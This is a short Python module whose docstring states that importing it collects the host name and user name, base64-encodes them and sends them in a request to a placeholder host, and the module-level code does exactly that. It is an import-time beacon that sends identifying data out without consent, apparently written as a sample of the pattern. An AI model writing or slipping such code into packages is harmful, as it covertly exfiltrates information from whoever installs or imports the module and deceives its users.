"""On import: the module's own code gathers the host and user, encodes them and sends them."""

import base64
import getpass
import json
import socket
from urllib import request

info = {"h": socket.gethostname(), "u": getpass.getuser()}
blob = base64.urlsafe_b64encode(json.dumps(info).encode()).decode()
req = request.Request("https://stats.example.invalid/p?d=" + blob)
request.urlopen(req)
